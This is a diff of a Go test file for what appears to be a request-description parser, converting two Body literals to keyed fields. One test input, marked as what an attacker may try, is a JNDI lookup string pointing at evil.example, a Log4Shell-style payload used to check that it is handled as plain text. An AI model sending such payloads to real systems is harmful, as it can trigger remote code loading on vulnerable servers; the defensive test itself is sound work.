@@ -110,10 +110,10 @@ func TestLanguage(t *testing.T) {
 		{"body as an object", "request: {uri: u, body: b}", `{"u":"/","b":{"a":[1,true,null,"x\"\u0001\\"],"b":1.5}}`, body, Body{Text: `{"a":[1,true,null,"x\"\u0001\\"],"b":1.5}`}},
 		{"body as a list", "request: {uri: u, body: b}", `{"u":"/","b":["x"]}`, body, Body{Text: `["x"]`}},
 		{"base64 body", "request: {uri: u, body: {field: b, encoding: base64}}", `{"u":"/","b":"YT0x"}`, body, Body{Text: "a=1"}},
-		{"body of the limit", "request: {uri: u, body: {field: b, limit: 3}}", `{"u":"/","b":"abc"}`, body, Body{"abc", true}},
+		{"body of the limit", "request: {uri: u, body: {field: b, limit: 3}}", `{"u":"/","b":"abc"}`, body, Body{Text: "abc", Truncated: true}},
 		{"body of the limit and of its length", "request: {uri: u, body: {field: b, limit: 3}, headers: {fields: {Content-Length: n}}}", `{"u":"/","b":"abc","n":3}`, body, Body{Text: "abc"}},
 		{"body below the limit", "request: {uri: u, body: {field: b, limit: 4}}", `{"u":"/","b":"abc"}`, body, Body{Text: "abc"}},
-		{"body shorter than its length", "request: {uri: u, body: {field: b, length: n}}", `{"u":"/","b":"abc","n":10}`, body, Body{"abc", true}},
+		{"body shorter than its length", "request: {uri: u, body: {field: b, length: n}}", `{"u":"/","b":"abc","n":10}`, body, Body{Text: "abc", Truncated: true}},
 
 		// what an attacker may try
 		{"a scheme that is none", "request: {line: r}", `{"r":"GET ${jndi:ldap://evil.example/a} HTTP/1.1"}`, uri, "${jndi:ldap://evil.example/a}"},
